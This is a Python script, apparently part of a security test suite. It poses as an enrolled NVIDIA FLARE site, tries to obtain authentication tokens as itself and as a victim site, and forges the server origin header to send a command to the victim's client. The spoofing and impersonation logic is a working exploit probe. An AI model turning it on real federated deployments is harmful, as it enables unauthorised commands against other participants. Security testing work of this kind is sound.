"""An enrolled site that speaks FLARE by itself: `python intruder.py KIT VICTIM`, prints JSON.

It joins beside its own client, under its own certificate, and prints what it got: whether a token,
as itself and as VICTIM; and what VICTIM's client replied to a command, in its own name and in the
server's.
"""

from __future__ import annotations

import json
import sys
from pathlib import Path

from nvflare.apis.fl_context import FLContext
from nvflare.apis.signal import Signal
from nvflare.fuel.f3.cellnet.cell import Cell
from nvflare.fuel.f3.cellnet.defs import CellChannel, MessageHeaderKey
from nvflare.fuel.f3.cellnet.utils import new_cell_message
from nvflare.fuel.f3.drivers.driver_params import DriverParams
from nvflare.fuel.f3.message import Message
from nvflare.fuel.sec.authn import set_add_auth_headers_filters
from nvflare.private.admin_defs import Message as Command
from nvflare.private.defs import ClientType, TrainingTopic
from nvflare.private.fed.authenticator import Authenticator
from nvflare.private.fed.utils.fed_utils import fobs_initialize

from securefl.deployment.kits import Kit


def token(cell: Cell, kit: Kit, name: str) -> tuple[str, str, str] | None:
    """What the server gives to whoever proves to be `name`; None where it gives nothing."""
    asking = Authenticator(
        cell=cell,
        project_name=kit.consortium,
        client_name=name,
        client_type=ClientType.RELAY,
        expected_sp_identity="server",
        secure_mode=True,
        root_cert_file=str(kit.root),
        private_key_file=str(kit.key),
        cert_file=str(kit.certificate),
        msg_timeout=3.0,
        retry_interval=1.0,
        timeout=1.0,
    )
    try:
        got, signature, session, _ = asking.authenticate(FLContext(), Signal())
    except Exception:
        return None
    return (got, signature, session) if got else None


def command(cell: Cell, victim: str) -> str:
    """The return code, and the reply, to a harmless command that FLARE's server gives."""
    request = new_cell_message({}, Command(TrainingTopic.CHECK_STATUS, ""))
    reply = cell.send_request(
        CellChannel.CLIENT_MAIN, TrainingTopic.CHECK_STATUS, victim, request, timeout=2.0
    )
    body = getattr(reply.payload, "body", "")
    return f"{reply.get_header(MessageHeaderKey.RETURN_CODE)} {body}"


def main(folder: str, victim: str) -> None:
    fobs_initialize()
    kit = Kit.load(Path(folder))
    credentials = {
        DriverParams.CA_CERT.value: str(kit.root),
        DriverParams.CLIENT_CERT.value: str(kit.certificate),
        DriverParams.CLIENT_KEY.value: str(kit.key),
        DriverParams.CONNECTION_SECURITY.value: "mtls",
    }
    cell = Cell(
        fqcn=f"{kit.name}.other",
        root_url=f"grpc://{kit.host}:{kit.port}",
        secure=True,
        credentials=credentials,
        create_internal_listener=False,
        auth_identity_map={"server": "server"},
    )
    cell.start()
    mine = token(cell, kit, kit.name)
    told = {"as itself": mine is not None, "as the victim": token(cell, kit, victim) is not None}
    if mine is not None:
        set_add_auth_headers_filters(cell, kit.name, *mine)
        told["own name"] = command(cell, victim)
        # FLARE 2.9 binds a token to an origin until its client has a newer one.
        token(cell, kit, kit.name)

        def forge(message: Message) -> None:
            message.set_header(MessageHeaderKey.ORIGIN, "server")

        cell.core_cell.add_outgoing_request_filter(channel="*", topic="*", cb=forge)
        told["the server's name"] = command(cell, victim)
    print(json.dumps(told), flush=True)
    cell.stop()


if __name__ == "__main__":
    main(*sys.argv[1:])
    import os

    os._exit(0)  # FLARE's threads
